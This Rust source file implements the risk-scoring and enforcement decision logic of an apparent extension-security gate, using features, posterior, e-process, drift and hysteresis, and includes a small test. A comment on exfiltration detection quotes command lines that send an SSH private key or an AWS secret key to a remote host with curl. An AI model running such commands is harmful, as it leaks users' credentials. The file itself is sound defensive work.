//! Per-extension risk state and the decision function (docs/design.md §3).
//!
//! [`evaluate`] is pure apart from the state it is given and the clock it reads twice, and does
//! not allocate: features, posterior, e-process, drift and the hysteresis step all work on
//! fixed-size state allocated once by [`ExtensionRiskState::new`].

use std::mem::size_of;

use crate::capability::Capability;
use crate::clock::Clock;
use crate::drift::{DriftDetector, Ring};
use crate::eprocess::{EProcess, FLAG_THRESHOLD};
use crate::explain::{Explanation, Trigger, Triggers};
use crate::features::{
    capability_base, exec_tier_value, Feature, HttpTargetClass, BURST_10S_SATURATION,
    BURST_1S_SATURATION, FAILURE_STREAK_SATURATION, FEATURE_COUNT,
};
use crate::hysteresis::{Hysteresis, StepInput};
use crate::model::{Evaluation, FallbackReason, Outcome, RiskInput, RiskModel};
use crate::posterior::{score_evidence, DirichletCounts, Posterior, MAX_EVIDENCE_PER_CALL};
use crate::state::EnforcementState;
use hostguard_exec::ExecTier;

/// Call timestamps kept for the burst features: the counted burst is capped at this.
pub const BURST_RING: usize = 64;
/// Outcomes kept for the error-rate feature.
pub const ERROR_WINDOW: u32 = 32;

/// Everything the model remembers about one extension. Its size is fixed at construction
/// (three rings of `window_size` `f64`s plus a few hundred bytes) and constant in call count.
#[derive(Debug, Clone, PartialEq)]
pub struct ExtensionRiskState {
    calls: u64,
    hysteresis: Hysteresis,
    scores: Ring,
    drift: DriftDetector,
    burst: [u64; BURST_RING],
    burst_head: usize,
    burst_len: usize,
    outcome_bits: u32,
    outcome_len: u32,
    failure_streak: u32,
    capabilities_used: u16,
    last_sensitive_read: Option<u64>,
    dirichlet: DirichletCounts,
    e_process: EProcess,
}

impl ExtensionRiskState {
    /// Fresh state for `model` (allocates its rings once, sized by the model's `window_size`;
    /// a host that changes `window_size` builds new states).
    pub fn new(model: &RiskModel) -> ExtensionRiskState {
        ExtensionRiskState {
            calls: 0,
            hysteresis: Hysteresis::new(),
            scores: Ring::new(model.window_size),
            drift: DriftDetector::new(model.window_size),
            burst: [0; BURST_RING],
            burst_head: 0,
            burst_len: 0,
            outcome_bits: 0,
            outcome_len: 0,
            failure_streak: 0,
            capabilities_used: 0,
            last_sensitive_read: None,
            dirichlet: DirichletCounts::new(),
            e_process: EProcess::new(),
        }
    }

    /// Operator reset (kill switch lifted, extension reset): back to a fresh state, the only
    /// way out of Terminate. Keeps the allocations.
    pub fn reset(&mut self) {
        self.calls = 0;
        self.hysteresis = Hysteresis::new();
        self.scores.clear();
        self.drift.clear();
        self.burst = [0; BURST_RING];
        self.burst_head = 0;
        self.burst_len = 0;
        self.outcome_bits = 0;
        self.outcome_len = 0;
        self.failure_streak = 0;
        self.capabilities_used = 0;
        self.last_sensitive_read = None;
        self.dirichlet = DirichletCounts::new();
        self.e_process = EProcess::new();
    }

    /// A restarted gate's state for an extension it knew: the hysteresis machine (enforcement
    /// state, cooldown counter, unsafe streak) as the ledger left it; the statistics (window,
    /// posterior, e-process, drift) start fresh, as after [`reset`](Self::reset).
    pub fn restore_hysteresis(&mut self, hysteresis: Hysteresis) {
        self.hysteresis = hysteresis;
    }

    /// The current enforcement state.
    pub fn state(&self) -> EnforcementState {
        self.hysteresis.state
    }

    /// The hysteresis machine.
    pub fn hysteresis(&self) -> Hysteresis {
        self.hysteresis
    }

    /// The current posterior.
    pub fn posterior(&self) -> Posterior {
        self.dirichlet.posterior()
    }

    /// The e-process log-value.
    pub fn e_process_log(&self) -> f64 {
        self.e_process.log_value
    }

    /// Whether drift is flagged.
    pub fn drifting(&self) -> bool {
        self.drift.drifting()
    }

    /// Calls evaluated since creation or the last reset.
    pub fn calls(&self) -> u64 {
        self.calls
    }

    /// Bytes this state occupies (struct plus ring buffers), constant in call count.
    pub fn size_bytes(&self) -> usize {
        // Three rings of the same capacity: scores, drift residuals, drift calibration.
        size_of::<ExtensionRiskState>() + 3 * self.scores.capacity() * size_of::<f64>()
    }

    /// Records the call time and returns the burst features (1 s, 10 s).
    fn push_call_time(&mut self, now_ms: u64) -> (f64, f64) {
        if let Some(slot) = self.burst.get_mut(self.burst_head) {
            *slot = now_ms;
        }
        self.burst_head += 1;
        if self.burst_head == BURST_RING {
            self.burst_head = 0;
        }
        self.burst_len = (self.burst_len + 1).min(BURST_RING);
        let (mut in_1s, mut in_10s) = (0u32, 0u32);
        for &t in self.burst.iter().take(self.burst_len) {
            // A timestamp from the future (clock set back) counts as "now".
            let age = now_ms.saturating_sub(t);
            in_1s += u32::from(age < 1_000);
            in_10s += u32::from(age < 10_000);
        }
        (
            (f64::from(in_1s) / BURST_1S_SATURATION).min(1.0),
            (f64::from(in_10s) / BURST_10S_SATURATION).min(1.0),
        )
    }

    fn error_rate(&self) -> f64 {
        if self.outcome_len == 0 {
            0.0
        } else {
            f64::from(self.outcome_bits.count_ones()) / f64::from(self.outcome_len)
        }
    }

    fn used(&self, capability: Capability) -> bool {
        self.capabilities_used & (1u16 << capability.code()) != 0
    }
}

/// Records how a call ended: error-rate window, failure streak and posterior evidence.
pub fn record_outcome(state: &mut ExtensionRiskState, outcome: Outcome) {
    let error = outcome.is_error();
    state.outcome_bits = (state.outcome_bits << 1) | u32::from(error);
    state.outcome_len = (state.outcome_len + 1).min(ERROR_WINDOW);
    state.failure_streak = if error {
        state.failure_streak.saturating_add(1)
    } else {
        0
    };
    state.dirichlet.add(outcome.evidence());
    // Outcomes come without a forgetting step: keep the documented mass bound even when a
    // host reports more outcomes than the model evaluated calls.
    state
        .dirichlet
        .cap_mass(state.scores.capacity() as f64 * MAX_EVIDENCE_PER_CALL);
}

/// Evaluates one call and applies the decision-time budget to the time it took: [`assess_risk`]
/// timed by `clock`, read at the start and at the end. The gate times its whole decision instead
/// (`gate::conclude`).
pub fn evaluate(
    model: &RiskModel,
    state: &mut ExtensionRiskState,
    input: &RiskInput,
    clock: &dyn Clock,
) -> Evaluation {
    let started = clock.now_ms();
    let evaluation = assess_risk(model, state, input);
    let finished = clock.now_ms();
    evaluation.timed(finished.saturating_sub(started), model)
}

/// Evaluates one call, purely: features → score → posterior, e-process, drift → triggers → one
/// [`Hysteresis::step`] (the same function ledger replay runs) → explanation. The decision-time
/// budget is applied afterwards ([`Evaluation::timed`]); `decision_ms` is 0 until then.
pub fn assess_risk(
    model: &RiskModel,
    state: &mut ExtensionRiskState,
    input: &RiskInput,
) -> Evaluation {
    let facts = CallFacts::of(model, state, input);
    let (features, controller_error) = facts.features(state, input);
    let (terms, score) = weigh(&features);

    // Posterior with forgetting.
    state.dirichlet.forget(model.lambda);
    state.dirichlet.add(score_evidence(score));
    let posterior = state.dirichlet.posterior();

    // Sequential test and drift, on the same score.
    let e = state.e_process.step_with(
        score >= FLAG_THRESHOLD,
        model.log_threshold,
        model.e_increments,
    );
    let residual = (score - facts.window_mean).abs();
    let drift = state
        .drift
        .step(residual, model.alpha, model.min_exceedances);
    let triggers = facts.triggers(e.breach, drift.drifting, input.signals.rule_severity);

    // The hysteresis machine: wired into every evaluation.
    let (next, outcome) = state.hysteresis.step(
        &model.hysteresis,
        StepInput {
            score,
            trigger_floor: triggers.floor(),
            posterior_unsafe: posterior.unsafe_,
        },
    );
    state.hysteresis = next;
    facts.remember(state, input, score);

    let posterior_finite = posterior.safe.is_finite()
        && posterior.suspicious.is_finite()
        && posterior.unsafe_.is_finite();
    let fallback = (controller_error || !posterior_finite || !e.log_value.is_finite())
        .then_some(FallbackReason::ControllerError);
    let unsafe_posterior = Posterior {
        safe: 0.0,
        suspicious: 0.0,
        unsafe_: 1.0,
    };
    Evaluation {
        score,
        posterior: if posterior_finite {
            posterior
        } else {
            unsafe_posterior
        },
        triggers,
        target: outcome.target,
        state_before: outcome.before,
        state_after: outcome.after,
        verdict: fallback_verdict(model, outcome.after, fallback),
        transition: outcome.transition,
        unsafe_evaluation: outcome.unsafe_evaluation,
        consecutive_unsafe: outcome.consecutive_unsafe,
        e_process_log: if e.log_value.is_finite() {
            e.log_value
        } else {
            0.0
        },
        drift: drift.drifting,
        features,
        explanation: Explanation::from_features(terms),
        fallback,
        decision_ms: 0,
    }
}

/// One call's signals and the extension's history, as the features read them.
struct CallFacts {
    is_exec: bool,
    /// Where a non-exec call goes (an exec command's target scores through its tier).
    http_class: Option<HttpTargetClass>,
    sensitive: bool,
    /// A secret env read: brokered (`env`) or by a command that expands or dumps it (`exec`).
    secret: bool,
    critical_class: bool,
    burst_1s: f64,
    burst_10s: f64,
    novelty: bool,
    exfiltration: bool,
    window_mean: f64,
}

impl CallFacts {
    /// Reads the signals (from detection: the model reads no params itself) and the history;
    /// records the call's time for the burst features.
    fn of(model: &RiskModel, state: &mut ExtensionRiskState, input: &RiskInput) -> CallFacts {
        let capability = input.capability;
        let signals = input.signals;
        let is_exec = capability == Capability::Exec;
        let (burst_1s, burst_10s) = state.push_call_time(input.now_ms);
        // The exfiltration shape: data leaves the network after a secret or sensitive read in
        // the window — or, for one command line, in the same call (`cat ~/.ssh/id_rsa | curl -d
        // @- https://…`, `curl -d "$AWS_SECRET_ACCESS_KEY" https://…`).
        let recent_read = state
            .last_sensitive_read
            .is_some_and(|at| state.calls.saturating_sub(at) <= model.window_size as u64);
        CallFacts {
            is_exec,
            http_class: if is_exec { None } else { signals.target },
            sensitive: matches!(
                capability,
                Capability::Read | Capability::Write | Capability::Tool
            ) && signals.sensitive_path,
            secret: matches!(capability, Capability::Env | Capability::Exec) && signals.secret_env,
            critical_class: is_exec && input.exec_critical_class,
            burst_1s,
            burst_10s,
            novelty: capability.is_dangerous() && !state.used(capability),
            exfiltration: signals.leaves && (signals.secret_read || recent_read),
            window_mean: state.scores.mean(),
        }
    }

    /// Every feature in [0, 1]. A non-finite feature can only come from a bug: it fails closed
    /// (value 1) and the second value says the evaluation is a controller error.
    fn features(
        &self,
        state: &ExtensionRiskState,
        input: &RiskInput,
    ) -> ([f64; FEATURE_COUNT], bool) {
        let flag = |b: bool| if b { 1.0 } else { 0.0 };
        let raw = Feature::ALL.map(|feature| match feature {
            Feature::Capability => capability_base(input.capability),
            Feature::ExecTier if self.is_exec => exec_tier_value(input.exec_tier),
            Feature::ExecTier => 0.0,
            Feature::ExecSafe => flag(self.is_exec && input.exec_tier == Some(ExecTier::Low)),
            Feature::ExecCriticalClass => flag(self.critical_class),
            Feature::SensitivePath => flag(self.sensitive),
            Feature::HttpTarget => self.http_class.map_or(0.0, |c| c.feature_value()),
            Feature::SecretEnv => flag(self.secret),
            Feature::Burst1s => self.burst_1s,
            Feature::Burst10s => self.burst_10s,
            Feature::ErrorRate => state.error_rate(),
            Feature::FailureStreak => {
                (f64::from(state.failure_streak) / FAILURE_STREAK_SATURATION).min(1.0)
            }
            Feature::Novelty => flag(self.novelty),
            Feature::ExfiltrationShape => flag(self.exfiltration),
            Feature::WindowMean => self.window_mean,
        });
        let mut controller_error = false;
        let features = raw.map(|v| {
            if v.is_finite() {
                v.clamp(0.0, 1.0)
            } else {
                controller_error = true;
                1.0
            }
        });
        (features, controller_error)
    }

    /// The triggers that fired. A single high-confidence call does not wait for a sequence
    /// (docs/detection.md "Severity"): a High or Critical rule floors the state at Prompt.
    fn triggers(&self, breach: bool, drifting: bool, rule: Option<ExecTier>) -> Triggers {
        let mut triggers = Triggers::empty();
        for (fired, trigger) in [
            (breach, Trigger::EProcessBreach),
            (drifting, Trigger::Drift),
            (self.critical_class, Trigger::CriticalExecClass),
            (self.exfiltration, Trigger::ExfiltrationShape),
            (rule == Some(ExecTier::Critical), Trigger::CriticalRule),
            (rule == Some(ExecTier::High), Trigger::SevereRule),
        ] {
            if fired {
                triggers.insert(trigger);
            }
        }
        triggers
    }

    /// Remembers the call: its score, its capability, and whether it read a secret. A secret
    /// read by any method and through any tool (a secret file or store, a secret env var, a
    /// fetch of cloud instance metadata) arms the exfiltration shape; a read of system
    /// configuration (`/etc/resolv.conf`) is sensitive but holds no secret, and does not.
    fn remember(&self, state: &mut ExtensionRiskState, input: &RiskInput, score: f64) {
        state.scores.push(score);
        state.capabilities_used |= 1u16 << input.capability.code();
        let signals = input.signals;
        let credential_fetch = signals
            .target
            .is_some_and(HttpTargetClass::reads_credentials);
        if self.secret || signals.secret_read || credential_fetch {
            state.last_sensitive_read = Some(state.calls);
        }
        state.calls = state.calls.saturating_add(1);
    }
}

/// Each feature's impact (weight × value) and the score: their sum, clamped to [0, 1] — the
/// final mathematical bound of docs/design.md §3, not a correction of any term.
fn weigh(features: &[f64; FEATURE_COUNT]) -> ([(Feature, f64); FEATURE_COUNT], f64) {
    let mut terms = [(Feature::Capability, 0.0); FEATURE_COUNT];
    let mut raw_score = 0.0;
    for ((term, feature), value) in terms.iter_mut().zip(Feature::ALL).zip(features) {
        let impact = feature.weight() * value;
        raw_score += impact;
        *term = (feature, impact);
    }
    (terms, raw_score.clamp(0.0, 1.0))
}

/// A fallback never downgrades: fail-closed raises to at least Deny, fail-open keeps the state
/// reached (docs/design.md §2 "Decision-time budget").
fn fallback_verdict(
    model: &RiskModel,
    reached: EnforcementState,
    fallback: Option<FallbackReason>,
) -> EnforcementState {
    match fallback {
        Some(_) if model.fail_closed => reached.max(EnforcementState::Deny),
        Some(_) | None => reached,
    }
}

impl Evaluation {
    /// The evaluation of a decision that took `decision_ms`: past the model's
    /// `decision_timeout_ms` (and without an earlier fallback) it falls back with
    /// [`FallbackReason::DecisionTimeout`].
    #[must_use]
    pub fn timed(mut self, decision_ms: u64, model: &RiskModel) -> Evaluation {
        self.decision_ms = decision_ms;
        if self.fallback.is_none() && decision_ms > model.decision_timeout_ms {
            self.fallback = Some(FallbackReason::DecisionTimeout);
            self.verdict = fallback_verdict(model, self.state_after, self.fallback);
        }
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::RuntimeRiskConfig;
    use crate::hysteresis::HysteresisConfig;

    fn mass(state: &ExtensionRiskState) -> f64 {
        let d = state.dirichlet;
        d.safe + d.suspicious + d.unsafe_
    }

    #[test]
    fn outcomes_without_evaluations_cannot_bank_unbounded_evidence() {
        let config = RuntimeRiskConfig::default();
        let model = RiskModel::new(&config, HysteresisConfig::default()).unwrap();
        let bound = config.window_size as f64 * MAX_EVIDENCE_PER_CALL + 1e-9;
        // A host reporting one call's outcome over and over, or outcomes of calls the model
        // never saw (policy denials): the documented bound on the posterior mass still holds.
        for outcome in [Outcome::Success, Outcome::Denied, Outcome::OtherError] {
            let mut state = ExtensionRiskState::new(&model);
            for _ in 0..100_000 {
                record_outcome(&mut state, outcome);
            }
            assert!(mass(&state) <= bound, "{outcome:?}: {}", mass(&state));
        }
    }
}
